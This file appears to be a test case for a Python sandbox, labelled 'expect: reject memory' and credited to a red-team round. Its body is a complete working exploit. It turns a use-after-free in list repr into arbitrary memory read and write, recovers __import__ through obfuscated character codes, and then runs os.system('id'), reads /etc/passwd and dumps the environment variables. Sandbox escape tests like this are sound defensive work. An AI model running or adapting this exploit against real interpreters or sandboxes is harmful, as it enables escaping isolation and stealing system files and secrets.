# expect: reject memory
# line: 26
# why: round 90 (the red team's, verified to reach id, /etc/passwd and os.environ under python3 3.11.2): a list's repr formats each item borrowed; the slice's start's __repr__ empties the list and frees the slice under its own repr; the text dunders are pure
L = []
G = []
KEEP = []


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        # self lives in KEEP[0]'s buffer: make it a bytearray over all memory
        KEEP[0][8:56] = q(id(bytearray)) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0)
        G.append(self)
        return "fake"


HDR = q(1 << 40) + q(id(Fake))


class Trigger:
    def __repr__(self):
        L.clear()
        buf = bytearray(95)
        buf[0:16] = HDR
        KEEP.append(buf)
        return "trigger"


n = 40
L.append(slice(Trigger(), "q" * n))
text = repr(L)
mem = G[0]


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def wr(addr, v):
    mem[addr:addr + 8] = q(v)


mod = rd(id(print) + 24)          # print.m_self: the builtins module
bdict = rd(mod + 16)              # its md_dict
holder = [None]
items = rd(id(holder) + 24)       # the list's ob_item
wr(bdict, rd(bdict) + 1)          # a reference for the list slot
wr(items, bdict)
table = holder[0]
imp = table["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
